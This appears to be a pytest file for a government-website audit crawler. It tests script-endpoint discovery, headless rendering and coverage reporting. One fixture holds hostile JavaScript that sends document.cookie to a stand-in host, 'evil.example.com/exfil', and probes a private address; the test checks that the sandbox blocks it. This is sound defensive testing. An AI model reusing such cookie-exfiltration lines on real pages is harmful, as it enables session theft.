"""Lists that scripts fill (issue 15): endpoints read from the site's own scripts, headless rendering as
the fallback, and coverage that says how each column was read. A real loopback site and DNS server;
the rendering tests use Debian's chromium and are skipped (with the reason) where it is absent.

Cases: (a) a JSON file named only in a .js, paged; (b) a JSONP answer with epoch dates; (c) an endpoint
built from an inline ``window.__APP_CONFIG__`` object; (c2) Hanweb ``dataproxy.jsp`` POSTed page by page;
(d) a list only a browser run fills; (e) a hostile script reaching another host and a private address;
(f) a script that never finishes.
"""
from __future__ import annotations

import asyncio
import json
import os
import shutil
from collections.abc import Iterator
from datetime import date, datetime, timedelta
from typing import Any
from urllib.parse import parse_qs

import pytest
from testkit.snapshots import repo_vocabulary

from checks.columnlists import Column, ListReader
from core.parsing.scriptapi import (
    evaluate,
    find_endpoints,
    hanweb_requests,
    json_page_count,
    next_page_url,
    page_config,
)
from core.site import Site
from core.snapshot import RunView
from core.store import Store
from crawler import crawl_run
from zwgk.loopback.dns import DNSServer
from zwgk.loopback.http import LoopbackServer, Request, Resp

HOST = "www.jsl.gov.cn"
EVIL = "evil.example.com"
HTML = {"Content-Type": "text/html; charset=utf-8"}
JSON = {"Content-Type": "application/json; charset=utf-8"}
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
# CI installs chromium (.ci/run) and must not skip: there a missing browser fails these tests instead
needs_chromium = pytest.mark.skipif(CHROMIUM is None and not os.environ.get("CI"),
                                    reason="Debian's chromium is not installed (.ci/run installs it): rendering untested")
AS_OF = "2026-11-27T10:00:00+08:00"
TODAY = date(2026, 11, 27)


def page(title: str, body: str, head: str = "") -> Resp:
    return Resp(200, f"<html><head><title>{title}</title>{head}</head><body>"
                     f"<div class='nav'><a href='/'>首页</a></div>{body}</body></html>", HTML)


def day(n: int) -> str:
    return (TODAY - timedelta(days=n)).isoformat()


# (a) the page names only its script; the script names a paged JSON file
A_JS = """(function(){
  function load(p){ $.getJSON("/a/data/list_" + p + ".json", function(d){ render(d.data); }); }
  load(1);
})();"""
A_PAGES = {1: [("关于做好2026年冬季安全生产工作的通知", day(3)), ("区应急管理局召开专题会议", day(10))],
           2: [("2026年部门预算公开说明", day(200))]}
# (b) JSONP with epoch-second dates
B_JS = """$.ajax({ url: "/b/api/list.jsp?callback=cb", dataType: "jsonp", jsonpCallback: "cb" });"""
# (c) an inline config object and an axios call in the app script
C_HEAD = """<script>window.__APP_CONFIG__ = {"apiBase": "/c/api", "siteId": "4415", "catId": 77};</script>"""
C_JS = """const cfg = window.__APP_CONFIG__;
new Vue({ el: '#app', data: { docs: [] }, mounted() {
  axios.get(`${cfg.apiBase}/docs?siteId=${cfg.siteId}&catId=${cfg.catId}&page=${this.page}`)
    .then(r => { this.docs = r.data.result.records; });
}});"""
# (c2) Hanweb: the datastore carries records 1-15, the rest come from dataproxy.jsp by POST
HW_TOTAL, HW_PER = 40, 15


def hw_record(i: int) -> str:
    title = "2026年部门预算" if i == 20 else f"区政府工作动态第{i}期"
    return (f"<record><![CDATA[<li><a href='/art/2026/{i}.html' title='{title}'>{title}</a>"
            f"<span>{day(i * 3)}</span></li>]]></record>")


HW_PAGE = ("<div id='div4444'><script type='text/xml'><datastore><nextgroup><![CDATA[<a href=\"/module/web/jpage/"
           "dataproxy.jsp?page=1&appid=1&webid=2&path=/&columnid=4444&unitid=5555&webname=%E6%9F%90&permissiontype=0\">"
           "</a>]]></nextgroup><recordset>" + "".join(hw_record(i) for i in range(1, HW_PER + 1)) +
           f"</recordset></datastore></script></div><script>$(document).ready(function(){{ $('#div4444').jpage({{"
           f"dataStore: dataStore, openCookies: false, totalRecord: {HW_TOTAL}, perPage: {HW_PER}, groupSize: 1,"
           "proxyUrl: '/module/web/jpage/dataproxy.jsp', ajaxParam: {col: 1, appid: 1, webid: 2, path: '/', "
           "columnid: 4444, sourceContentType: 1, unitid: 5555, webname: '某局', permissiontype: 0}}); });</script>")
# (d) a list computed in script: no date or title is spelled out in the HTML
D_BODY = """<ul id="list"></ul><script>
var box = document.getElementById('list'), names = ['通知', '公告', '动态'];
for (var i = 0; i < 3; i++) {
  var d = new Date(Date.UTC(2026, 10, 20 - i * 7));
  box.insertAdjacentHTML('beforeend', '<li><a href="/d/t' + i + '.html">区政府' + names[i] + '第' + (i + 1) +
    '号文件发布</a><span>' + d.toISOString().slice(0, 10) + '</span></li>');
}
</script>"""


def e_body(evil_port: int) -> str:
    """(e) builds its list in script and tries to reach another host and a private address on the way."""
    return D_BODY.replace("/d/t", "/e/t") + f"""<script>
fetch('http://{EVIL}:{evil_port}/exfil?c=' + document.cookie).catch(function(){{}});
fetch('http://127.0.0.1:{evil_port}/private').catch(function(){{}});
try {{ new WebSocket('ws://127.0.0.1:{evil_port}/ws'); }} catch (e) {{}}
var img = new Image(); img.src = 'http://{EVIL}:{evil_port}/pixel.gif';
</script>"""


F_BODY = '<ul id="list"></ul><script>var n = 0; while (true) { n++; }</script>'


def dataproxy(req: Request) -> Resp:
    if req.method != "POST":
        return Resp(400, "POST only", {"Content-Type": "text/plain"})
    q = parse_qs(req.path.split("?", 1)[1]) if "?" in req.path else {}
    form = parse_qs(req.body.decode())
    if form.get("columnid") != ["4444"] or "startrecord" not in q:
        return Resp(400, "missing columnid", {"Content-Type": "text/plain"})
    s, e = int(q["startrecord"][0]), int(q["endrecord"][0])
    body = ("<?xml version='1.0' encoding='UTF-8'?><datastore><recordset>" +
            "".join(hw_record(i) for i in range(s, min(e, HW_TOTAL) + 1)) + "</recordset></datastore>")
    return Resp(200, body, {"Content-Type": "text/xml; charset=UTF-8"})


def c_api(req: Request) -> Resp:
    q = parse_qs(req.path.split("?", 1)[1]) if "?" in req.path else {}
    if q.get("siteId") != ["4415"] or q.get("catId") != ["77"]:
        return Resp(404, "unknown site or category", {"Content-Type": "text/plain"})
    return Resp(200, json.dumps({"code": 0, "result": {"total": 2, "records": [
        {"docTitle": "红海湾经济开发区2025年政府信息公开工作年度报告", "docRelTime": day(40) + " 09:30:00",
         "docUrl": "/c/art/1.html"},
        {"docTitle": "关于公布2026年第三季度行政许可事项的通告", "docRelTime": day(60) + " 10:00:00",
         "docUrl": "/c/art/2.html"}]}}), JSON)


def a_json(p: int) -> Resp:
    return Resp(200, json.dumps({"totalPage": 2, "pageNo": p, "data": [
        {"title": t, "pubDate": d, "url": f"/a/art/{p}{i}.html"} for i, (t, d) in enumerate(A_PAGES[p])]}), JSON)


def epoch(n: int) -> int:
    d = TODAY - timedelta(days=n)
    return int(datetime(d.year, d.month, d.day, 12).timestamp())


def routes(evil_port: int) -> dict[str, Any]:
    empty = '<ul id="list"></ul>'
    return {
        "/": Resp(200, "<html><head><title>首页</title></head><body><div class='nav'>" + "".join(
            f"<a href='{u}'>{n}栏目</a>" for u, n in [
            ("/s/", "静态"), ("/a/", "甲"), ("/b/", "乙"), ("/c/", "丙"), ("/col/col4444/index.html", "丁"),
            ("/d/", "戊"), ("/e/", "己"), ("/f/", "庚")]) + "</div><p>欢迎访问</p></body></html>", HTML),
        "/s/": page("静态栏目", "<ul class='list'><li><a href='/s/1.html'>关于开展消防检查的通知</a>"
                    f"<span>{day(5)}</span></li><li><a href='/s/2.html'>关于开展防汛演练的通知</a>"
                    f"<span>{day(9)}</span></li></ul>"),
        "/a/": page("通知公告", empty + '<script src="/js/a-list.js"></script>'),
        "/js/a-list.js": Resp(200, A_JS, {"Content-Type": "application/javascript"}),
        "/a/data/list_1.json": a_json(1), "/a/data/list_2.json": a_json(2),
        "/b/": page("政策文件", empty + '<script src="/js/jquery.min.js"></script><script src="/js/b.js"></script>'),
        "/js/jquery.min.js": Resp(200, "/* jQuery stand-in */ window.$ = {};", {"Content-Type": "text/javascript"}),
        "/js/b.js": Resp(200, B_JS, {"Content-Type": "text/javascript"}),
        "/b/api/list.jsp": Resp(200, "cb(" + json.dumps({"rows": [
            {"bt": "关于印发《红海湾经济开发区行政规范性文件管理办法》的通知", "fbrq": epoch(15), "link": "/b/1.html"},
            {"bt": "关于调整城乡居民最低生活保障标准的通知", "fbrq": epoch(45), "link": "/b/2.html"}]}) + ");",
            {"Content-Type": "application/javascript"}),
        "/c/": page("信息公开", '<div id="app"><ul><li v-for="d in docs"><a :href="d.docUrl">{{ d.docTitle }}</a>'
                    '</li></ul></div><script src="/js/c-app.js"></script>', head=C_HEAD),
        "/js/c-app.js": Resp(200, C_JS, {"Content-Type": "text/javascript"}),
        "/c/api/docs": c_api,
        "/col/col4444/index.html": page("部门预决算", HW_PAGE),
        "/module/web/jpage/dataproxy.jsp": dataproxy,
        "/d/": page("工作动态", D_BODY),
        "/e/": page("公示公告", e_body(evil_port)),
        "/f/": page("人事信息", F_BODY),
    }


@pytest.fixture(scope="module")
def evil() -> Iterator[LoopbackServer]:
    with LoopbackServer({}, fallback=Resp(200, "stolen", {"Content-Type": "text/plain"})) as srv:
        yield srv


@pytest.fixture(scope="module")
def site_env(evil: LoopbackServer) -> Iterator[tuple[LoopbackServer, DNSServer]]:
    zone = {HOST: {"A": ["127.0.0.1"]}, EVIL: {"A": ["127.0.0.1"]}}
    with LoopbackServer(routes(evil.port), fallback=page("文章", "<p>正文</p>")) as srv, DNSServer(zone) as dns:
        yield srv, dns


def crawl(env: tuple[LoopbackServer, DNSServer], **cfg: Any) -> tuple[Store, int, dict[str, int]]:
    srv, dns = env
    store = Store()
    site = {"id": "jsl", "name": "脚本区", "unit": "区政府", "kind": "department", "url": f"http://{HOST}:{srv.port}/"}
    run_id = store.begin_run(as_of=AS_OF, audit_name="t", sites_path="s.toml", sites_toml="", rules_toml="",
                             site_configs={"jsl": site})
    crawl_cfg = {"delay": 0, "retry_backoff": 0.01, "timeout": 5, "retries": 0, "check_external": False,
                 "render_timeout": 6, **cfg}
    net = {"nameservers": [dns.address], "allow_private": True, "dns_timeout": 1}
    stats = asyncio.run(crawl_run(store, run_id, [Site.from_dict(site)], net, crawl_cfg, progress=False))
    return store, run_id, stats


def read(store: Store, run_id: int, port: int, path: str) -> Column:
    view = RunView(store, run_id, district={"name": "t", "timezone": "Asia/Shanghai"}, vocabulary=repo_vocabulary())
    col = Column(None, path, f"http://{HOST}:{port}{path}", "test")
    ListReader(view.snapshot("jsl")).read(col)
    return col


@pytest.fixture(scope="module")
def crawled(site_env: tuple[LoopbackServer, DNSServer]) -> tuple[Store, int, dict[str, int], int]:
    store, run_id, stats = crawl(site_env)
    return store, run_id, stats, site_env[0].port


@pytest.fixture(scope="module")
def no_browser(site_env: tuple[LoopbackServer, DNSServer]) -> tuple[Store, int, dict[str, int], int]:
    store, run_id, stats = crawl(site_env, chromium="/nonexistent/chromium")
    return store, run_id, stats, site_env[0].port


# -- parsing (pure) -------------------------------------------------------------------------------------

def test_config_objects_and_templates_are_substituted() -> None:
    env = page_config(C_HEAD + '<div data-cat-id="9"></div>', "var SID = '755325'; let base = '/x' + '/y';")
    assert env["apiBase"] == "/c/api" and env["siteId"] == "4415" and env["catId"] == "77"
    assert env["SID"] == "755325" and env["base"] == "/x/y"
    assert evaluate("cfg.apiBase + '/list?sid=' + SID + '&page=' + pageNo", env) == "/c/api/list?sid=755325&page=1"
    assert evaluate("getUrl() + '/x'", env) is None          # a call: not guessed
    assert evaluate("unknownVar + '/x'", env) is None        # an unknown name: not guessed
    reqs = find_endpoints(C_JS, env, "http://h/c/")
    assert [r.url for r in reqs] == ["http://h/c/api/docs?siteId=4415&catId=77&page=1"]


def test_scripts_that_name_no_data_give_no_endpoint() -> None:
    js = ("var css = '/static/site.css'; $.getScript('/js/other.js'); fetch(buildUrl()); location.href = '/x.html';"
          " this.load(1); vm.load(pageNo); $.get('关于 通知');")
    assert find_endpoints(js, {}, "http://h/") == []


def test_hanweb_jpage_posts_the_records_after_the_datastore() -> None:
    reqs = hanweb_requests(HW_PAGE, "http://h/col/col4444/index.html")
    assert [r.url for r in reqs] == [
        "http://h/module/web/jpage/dataproxy.jsp?startrecord=16&endrecord=30&perpage=15",
        "http://h/module/web/jpage/dataproxy.jsp?startrecord=31&endrecord=40&perpage=15"]
    assert all(r.method == "POST" and dict(r.form)["columnid"] == "4444" for r in reqs)


def test_json_pagination_fields() -> None:
    assert json_page_count({"totalPage": 3}) == 3
    assert json_page_count({"result": {"total": 41, "pageSize": 20}}) == 3
    assert json_page_count({"data": []}) is None
    assert next_page_url("http://h/a/list_1.json", 2) == "http://h/a/list_2.json"
    assert next_page_url("http://h/api?pageNo=1&x=2", 3) == "http://h/api?pageNo=3&x=2"
    assert next_page_url("http://h/api/list.json", 2) is None


# -- discovery on a real crawl ----------------------------------------------------------------------------

def test_a_json_named_only_in_a_script_is_read_with_its_pages(crawled: Any) -> None:
    store, run_id, _, port = crawled
    col = read(store, run_id, port, "/a/")
    assert col.state == "ok" and col.read_via == "endpoint"
    assert {it.title for it in col.items} == {t for p in A_PAGES.values() for t, _ in p}   # page 2 too
    assert col.items[0].date == TODAY - timedelta(days=3)
    script = [f for f in store.fetches(run_id, "jsl", "script") if f.url.endswith("/js/a-list.js")]
    assert script and script[0].body_hash          # stored: the run can be re-judged offline


def test_b_jsonp_answer_with_epoch_dates(crawled: Any) -> None:
    store, run_id, _, port = crawled
    col = read(store, run_id, port, "/b/")
    assert col.state == "ok" and col.read_via == "endpoint"
    assert col.items[0].date == TODAY - timedelta(days=15) and "规范性文件" in col.items[0].title
    # a library is not fetched: only the site's own scripts are read
    assert not any(f.url.endswith("jquery.min.js") for f in store.fetches(run_id, "jsl", "script"))


def test_c_endpoint_built_from_the_inline_config_object(crawled: Any) -> None:
    store, run_id, _, port = crawled
    col = read(store, run_id, port, "/c/")
    assert col.state == "ok" and col.read_via == "endpoint"
    assert [it.date for it in col.items] == [TODAY - timedelta(days=40), TODAY - timedelta(days=60)]
    assert "年度报告" in col.items[0].title


def test_c2_hanweb_dataproxy_is_posted_page_by_page(crawled: Any, site_env: Any) -> None:
    store, run_id, _, port = crawled
    col = read(store, run_id, port, "/col/col4444/index.html")
    assert col.state == "ok" and col.read_via == "endpoint"
    titles = [it.title for it in col.items]
    assert len(titles) == HW_TOTAL and "2026年部门预算" in titles          # record 20: on page 2
    posts = [f for f in store.fetches(run_id, "jsl", "page") if "dataproxy.jsp" in f.url]
    assert posts and all(f.method == "POST" and f.status == 200 and f.extra["form"]["columnid"] == "4444"
                         for f in posts)


def test_static_column_is_read_as_static_html(crawled: Any) -> None:
    store, run_id, _, port = crawled
    col = read(store, run_id, port, "/s/")
    assert col.state == "ok" and col.read_via == "static"
    assert not [f for f in store.fetches(run_id, "jsl", "render") if f.url.endswith("/s/")]


def test_without_a_browser_script_lists_stay_unverifiable(no_browser: Any) -> None:
    store, run_id, stats, port = no_browser
    for path in ("/d/", "/e/", "/f/"):
        col = read(store, run_id, port, path)
        assert col.state == "unverifiable" and "未安装无头浏览器" in (col.reason or ""), (path, col.reason)
    assert stats["render.unavailable"] == 3
    # discovery does not need the browser
    assert read(store, run_id, port, "/a/").state == "ok"


# -- rendering (Chromium) ---------------------------------------------------------------------------------

@needs_chromium
def test_d_list_only_a_browser_fills_is_rendered(crawled: Any) -> None:
    store, run_id, _, port = crawled
    col = read(store, run_id, port, "/d/")
    assert col.state == "ok" and col.read_via == "rendered", col.reason
    assert [it.date for it in col.items] == [date(2026, 11, 20), date(2026, 11, 13), date(2026, 11, 6)]
    row = next(f for f in store.fetches(run_id, "jsl", "render") if f.url.endswith("/d/"))
    assert row.extra["status"] == "ok" and row.body_hash and row.extra["requests"][0]["type"] == "Document"
    # the rendered list's articles are crawled like any list's
    pages = {f.url.split(str(port), 1)[1] for f in store.fetches(run_id, "jsl", "page")}
    assert {"/d/t0.html", "/d/t1.html", "/d/t2.html"} <= pages


@needs_chromium
def test_e_hostile_script_reaches_nothing_outside_the_site(crawled: Any, evil: LoopbackServer) -> None:
    store, run_id, _, port = crawled
    assert evil.requests == []                  # no request of the crawler or the browser reached it
    row = next(f for f in store.fetches(run_id, "jsl", "render") if f.url.endswith("/e/"))
    blocked = [r for r in row.extra["requests"] if r.get("blocked")]
    assert {r["url"].split("/")[2] for r in blocked} >= {f"{EVIL}:{evil.port}", f"127.0.0.1:{evil.port}"}
    assert row.extra["blocked"] >= 2
    col = read(store, run_id, port, "/e/")
    assert col.state == "ok" and col.read_via == "rendered"   # the site's own list is still read


@needs_chromium
def test_f_script_that_never_finishes_is_killed_and_unverifiable(crawled: Any) -> None:
    store, run_id, _, port = crawled
    row = next(f for f in store.fetches(run_id, "jsl", "render") if f.url.endswith("/f/"))
    assert row.extra["status"] == "timeout" and row.error_kind == "timeout" and not row.body_hash
    assert row.elapsed_ms < 6_000 + 8_000       # the budget, plus killing and cleaning up
    col = read(store, run_id, port, "/f/")
    assert col.state == "unverifiable" and "时限内未完成" in (col.reason or "")


@needs_chromium
def test_render_budget_per_site(site_env: Any) -> None:
    store, run_id, stats = crawl(site_env, render_max_pages=1)
    rows = store.fetches(run_id, "jsl", "render")
    assert sorted(f.extra["status"] for f in rows) == ["ok", "over_budget", "over_budget"]
    over = next(f for f in rows if f.extra["status"] == "over_budget")
    col = read(store, run_id, site_env[0].port, over.url.split(str(site_env[0].port))[1])
    assert col.state == "unverifiable" and "上限" in (col.reason or "")


# -- coverage: what was read how --------------------------------------------------------------------------

def _coverage(store: Store, run_id: int) -> Any:
    from checks.base import params_for
    from checks.coverage import CHECKS as COVERAGE

    view = RunView(store, run_id, district={"name": "t", "timezone": "Asia/Shanghai"}, vocabulary=repo_vocabulary())
    check = COVERAGE[0]
    return check.judge(view.snapshot("jsl"), params_for(check, {}))


def test_coverage_says_the_browser_is_missing(no_browser: Any) -> None:
    store, run_id, _, _ = no_browser
    res = _coverage(store, run_id)
    assert res.outcome.value == "warn"
    f = next(f for f in res.findings if f.message_id == "crawl-coverage.no_browser")
    assert f.params["count"] == 3 and "chromium" in f.params["why"]
    reads = {r["url"].split("/", 3)[3]: r for r in res.metrics["column_reads"]}
    assert reads["a/"]["read"] == "脚本接口" and reads["s/"]["read"] == "静态页面"
    assert reads["d/"]["read"] == "未能读取" and "未安装" in reads["d/"]["why"]


@needs_chromium
def test_coverage_counts_each_reading_path(crawled: Any) -> None:
    store, run_id, _, _ = crawled
    res = _coverage(store, run_id)
    cols = next(f for f in res.findings if f.message_id == "crawl-coverage.columns")
    # 静态: 首页 nav targets with static lists; 接口: a b c c2; 渲染: d e; 未读: f (timed out)
    assert cols.params["endpoint"] == 4 and cols.params["rendered"] == 2 and cols.params["not_read"] >= 1
    assert "时限内未完成" in cols.params["detail"]
    assert any(f.message_id == "crawl-coverage.render_failed" for f in res.findings)


@pytest.mark.parametrize("script", [
    "var a = {" * 20_000,                                  # unclosed config objects
    "url: " + "'x' + " * 40_000,                           # an endless concatenation
    "fetch('/api/' + " * 20_000,                           # unclosed calls
    "$.ajax({url: '/d.json', data: {" * 10_000,            # nested, never closed
    "'/data/" + "a" * 400_000 + ".json'",                  # one huge literal
], ids=["objects", "concat", "calls", "ajax", "literal"])
def test_hostile_scripts_give_bounded_answers(script: str) -> None:
    env = page_config("<script>" + script[:100_000] + "</script>", script)
    reqs = find_endpoints(script, env, "http://h/")
    assert len(reqs) <= 12 and all(len(r.url) < 2_000 for r in reqs)
    assert hanweb_requests("<script>$('#x').jpage({" * 1000 + "</script>", "http://h/", scripts=script) == []


@pytest.mark.parametrize("js,expected", [
    ('$.ajax({ url: "/api/list.do", type: "POST", data: { columnId: CAT, pageNo: 1 } });',
     [("POST", "http://h/api/list.do", (("columnId", "99"), ("pageNo", "1")))]),
    ('$.post("/interface/list.action", {cid: CAT});', [("POST", "http://h/interface/list.action", (("cid", "99"),))]),
    ('var x = new XMLHttpRequest(); x.open("GET", "/data/" + CAT + "/list.json");',
     [("GET", "http://h/data/99/list.json", ())]),
    ("var DATA_URL = '/static/data/zcwj.json';", [("GET", "http://h/static/data/zcwj.json", ())]),
    ('axios.get("http://other.example.com/api/list.json")', [("GET", "http://other.example.com/api/list.json", ())]),
    ("fetch(location.origin + '/api/x.json')", []),        # a browser value: not guessed
], ids=["ajax-post", "post-shorthand", "xhr", "json-literal", "other-host-kept-for-the-scope-check", "dom-value"])
def test_request_shapes(js: str, expected: list[tuple[str, str, tuple[tuple[str, str], ...]]]) -> None:
    got = [(r.method, r.url, r.form) for r in find_endpoints(js, {"CAT": "99"}, "http://h/zwgk/")]
    assert got == expected


@pytest.mark.parametrize("js", [
    '$.ajax({url: "/mailbox/submitLetter.do", type: "POST", data: {title: $("#t").val()}});',
    '$.post("/hdjl/letter.do", {title: t, content: $("#c").val(), phone: p});',   # a 留言 form
    '$.post("/sms/sendCode.action", {m: mobile});',
    '$.ajax({url: "/api/addComment", type: "POST", data: {}});',
    'x.open("POST", "/survey/vote.do");',
    'axios.post("/user/login.do", {username: u, password: p})',
    '$.post("/api/del.do", {id: 1});',
], ids=["submit", "letter-form", "sms", "add-comment", "vote", "login", "delete"])
def test_requests_that_would_act_on_the_site_are_never_made(js: str) -> None:
    """The auditor reads lists: a script's 留言 submission, vote, SMS code or login is never POSTed
    (every one would leave a trace in the office's own systems)."""
    got = [(r.method, r.url) for r in find_endpoints(js, {}, "http://h/hdjl/")]
    assert not [g for g in got if g[0] == "POST"], got
    assert not [u for _, u in got if any(w in u for w in ("submit", "sendCode", "addComment", "vote", "login", "del."))]


def test_list_reads_by_post_with_a_search_filter_are_still_made() -> None:
    js = '$.ajax({url: "/hdjl/letterList.do", type: "POST", data: {pageNo: 1, title: "", columnId: 5}});'
    assert [(r.method, r.url) for r in find_endpoints(js, {}, "http://h/")] == [("POST", "http://h/hdjl/letterList.do")]
